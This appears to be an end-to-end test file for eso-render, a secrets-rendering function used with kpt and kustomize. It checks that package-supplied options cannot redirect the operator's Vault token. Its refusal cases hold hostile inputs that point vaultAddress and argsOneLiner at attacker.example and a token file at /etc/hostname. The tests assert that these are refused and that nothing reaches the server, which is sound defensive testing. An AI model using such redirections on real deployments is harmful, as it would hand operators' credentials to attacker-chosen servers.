// The trust model under the real hosts: what a package or kustomization can hand eso-render (exec
// arguments, argsOneLiner, a function config, kpt's `-- key=value`) cannot choose a credential or a
// server, and the operator's token does not follow a store's server. The bundled Vault-compatible
// server's request log shows that nothing was sent.

import { test, after, before } from 'node:test'
import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { BIN, cleanEnv, KUSTOMIZE, requireBundle, run } from '../support/run.ts'
import { startVaultDouble, type VaultDouble } from '../vault-server/double.ts'

requireBundle()
const TOKEN = 'hvs.E2E-TRUST-CANARY-4c1d'
const seed = { secret: { version: 2 as const, token: TOKEN, secrets: { app: { password: 'VALUE-E2E-TRUST-CANARY' } } } }
const work = mkdtempSync(join(tmpdir(), 'eso-render-e2e-trust-'))
let vault: VaultDouble
let n = 0
before(async () => {
  vault = await startVaultDouble({ seed })
})
after(async () => {
  await vault.close()
  rmSync(work, { recursive: true, force: true })
})

const manifests = (auth: string, tokenSecret: boolean) =>
  [
    ...(tokenSecret ? [`apiVersion: v1\nkind: Secret\nmetadata: {name: vault-token, namespace: apps}\nstringData: {token: ${TOKEN}}\n`] : []),
    `apiVersion: external-secrets.io/v1\nkind: SecretStore\nmetadata: {name: vault, namespace: apps}\nspec:\n  provider:\n    vault:\n      server: ${vault.url}\n      path: secret\n      auth: ${auth}\n`,
    'apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: {name: app, namespace: apps}\nspec:\n  secretStoreRef: {name: vault}\n  data:\n  - secretKey: password\n    remoteRef: {key: app, property: password}\n',
  ].join('---\n')

function dir(files: Record<string, string>): string {
  const d = join(work, String(n++))
  mkdirSync(d, { recursive: true })
  for (const [name, text] of Object.entries(files)) writeFileSync(join(d, name), text)
  return d
}
const CONFIG = 'apiVersion: config.eso-render.dev/v1alpha1\nkind: EsoRender\nmetadata:\n  name: eso-render\n'
const own = () => manifests('{tokenSecretRef: {name: vault-token, key: token}}', true)

const refusals: { name: string; run: () => Promise<{ code: number | null; stderr: string }>; message: RegExp }[] = [
  {
    name: 'kpt fn eval --exec "eso-render --token-env HOME" (exec arguments)',
    run: () => run('kpt', ['fn', 'eval', '--exec', `${BIN} --token-env HOME`, '-o', 'stdout', dir({ 'resources.yaml': own() })], { env: cleanEnv() }),
    message: /tokenEnv: operator-only option, given in the function arguments: set ESO_RENDER_TOKEN_ENV in the environment/,
  },
  {
    name: 'kpt fn eval -- vaultAddress=... (the ConfigMap function config)',
    run: () => run('kpt', ['fn', 'eval', '--exec', BIN, '-o', 'stdout', dir({ 'resources.yaml': own() }), '--', 'vaultAddress=https://attacker.example'], { env: cleanEnv() }),
    message: /vaultAddress: operator-only option, given in the function config ConfigMap data: set VAULT_ADDR in the environment/,
  },
  {
    name: 'kubectl kustomize with argsOneLiner --vault-address (legacy plugin)',
    run: async () => {
      const plugins = join(work, 'plugins')
      const installed = await run(BIN, ['install-plugin', plugins])
      assert.equal(installed.code, 0, installed.stderr)
      const app = dir({
        'resources.yaml': own(),
        'kustomization.yaml': 'resources:\n- resources.yaml\ntransformers:\n- eso-render.yaml\n',
        'eso-render.yaml': `${CONFIG}argsOneLiner: --vault-address https://attacker.example\nspec: {}\n`,
      })
      return run('kubectl', ['kustomize', '--enable-alpha-plugins', app], { env: cleanEnv({ KUSTOMIZE_PLUGIN_HOME: plugins }) })
    },
    message: /vaultAddress: operator-only option, given in the plugin arguments \(argsOneLiner\): set VAULT_ADDR in the environment/,
  },
  {
    name: 'kustomize build --enable-exec with tokenFile in the function config spec',
    run: () => {
      const app = dir({
        'resources.yaml': own(),
        'kustomization.yaml': 'resources:\n- resources.yaml\ntransformers:\n- eso-render.yaml\n',
        'eso-render.yaml': `${CONFIG}  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: ${BIN}\nspec:\n  tokenFile: /etc/hostname\n`,
      })
      return run(KUSTOMIZE, ['build', '--enable-alpha-plugins', '--enable-exec', app], { env: cleanEnv() })
    },
    message: /tokenFile: operator-only option, given in the function config spec: set ESO_RENDER_TOKEN_FILE in the environment/,
  },
]

for (const r of refusals) {
  test(`trust e2e: ${r.name} is refused, and nothing reaches Vault`, async () => {
    vault.clearRequests()
    const out = await r.run()
    assert.notEqual(out.code, 0)
    // kpt quotes the function's stderr; its results carry the message as written.
    assert.match(out.stderr.replace(/\\"/g, '"'), r.message)
    assert.deepEqual(vault.requests, [])
    assert.ok(!out.stderr.includes(TOKEN))
  })
}

test("trust e2e: kpt with the operator's VAULT_TOKEN and the input's store server fails with SERVER_NOT_TRUSTED and sends nothing; ESO_RENDER_ALLOWED_SERVERS trusts it", async () => {
  vault.clearRequests()
  const pkg = () => dir({ 'resources.yaml': manifests('{}', false) })
  const refused = await run('kpt', ['fn', 'eval', '--exec', BIN, '-o', 'stdout', pkg()], { env: cleanEnv({ VAULT_TOKEN: TOKEN }) })
  assert.notEqual(refused.code, 0)
  assert.match(refused.stderr, /is not trusted with the operator's credential \$VAULT_TOKEN/)
  assert.deepEqual(vault.requests, [])
  const allowed = await run('kpt', ['fn', 'eval', '--exec', BIN, '-o', 'stdout', pkg()], { env: cleanEnv({ VAULT_TOKEN: TOKEN, ESO_RENDER_ALLOWED_SERVERS: vault.url }) })
  assert.equal(allowed.code, 0, allowed.stderr)
  assert.match(allowed.stdout, /kind: Secret/)
  assert.equal(vault.requests.length, 1)
})
